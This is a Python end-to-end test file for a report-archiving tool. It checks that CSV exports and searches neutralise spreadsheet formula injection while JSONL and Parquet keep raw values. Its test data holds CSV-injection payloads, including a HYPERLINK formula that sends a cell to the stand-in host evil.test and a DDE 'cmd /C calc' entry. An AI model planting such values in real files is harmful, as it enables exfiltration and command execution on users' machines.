"""Scraped text that a spreadsheet would run as a formula is neutralised in CSV (OWASP), and only there."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from storage import Archive, ReportRecord
from tests.support.commands import run_cmd

HOSTILE = {  # title → organ; every cell starts with a character a spreadsheet reads as a formula
    '=HYPERLINK("http://evil.test/?x="&A1,"点击")2023年政府信息公开工作年度报告': "+测试县人民政府",
    "@SUM(1+1)*cmd|' /C calc'!A0 2022年年度报告": "-2+3",
    "\t=1+1 2021年年度报告": "\r=1+1",
}
SAFE_TITLE = "测试县2020年政府信息公开工作年度报告"


def hostile_archive(url: str) -> None:
    archive = Archive(url)
    for n, (title, organ) in enumerate([*HOSTILE.items(), (SAFE_TITLE, "测试县人民政府")]):
        body = f"-{n} 正文以减号开头。"
        archive.record(ReportRecord(url=f"http://x.test/{n}.html", body=body, title=title, organ=organ,
                                    content_sha256=hashlib.sha256(body.encode()).hexdigest()))


def export(db: str, fmt: str, out: Path) -> None:
    result = run_cmd(["nianbao", "export", "--format", fmt, "-o", str(out)], env={"NIANBAO_DB": db})
    assert result.returncode == 0, result.stderr


@pytest.mark.e2e
def test_csv_cells_that_start_a_formula_are_quoted_and_other_formats_keep_them_raw(
        sqlite_url: str, tmp_path: Path) -> None:
    hostile_archive(sqlite_url)
    export(sqlite_url, "csv", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    by_title = {r["title"].removeprefix("'"): r for r in rows}
    for title, organ in HOSTILE.items():
        row = by_title[title]
        assert row["title"] == "'" + title and row["organ"] == "'" + organ
    safe = by_title[SAFE_TITLE]
    assert safe["title"] == SAFE_TITLE and safe["organ"] == "测试县人民政府"
    assert all(r["body"].startswith("'-") for r in rows)
    assert all(not r["id"].startswith("'") for r in rows)

    export(sqlite_url, "jsonl", tmp_path / "out.jsonl")
    raw = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {r["title"]: r["organ"] for r in raw} == {**HOSTILE, SAFE_TITLE: "测试县人民政府"}
    export(sqlite_url, "parquet", tmp_path / "out.parquet")
    assert {r["title"] for r in pq.read_table(tmp_path / "out.parquet").to_pylist()} == {*HOSTILE, SAFE_TITLE}


@pytest.mark.e2e
def test_search_as_csv_is_neutralised_too(sqlite_url: str) -> None:
    hostile_archive(sqlite_url)
    result = run_cmd(["nianbao", "search", "年度报告", "--format", "csv", "--db", sqlite_url])
    assert result.returncode == 0, result.stderr
    titles = {r["title"] for r in csv.DictReader(io.StringIO(result.stdout))}
    assert titles == {"'" + t for t in HOSTILE} | {SAFE_TITLE}
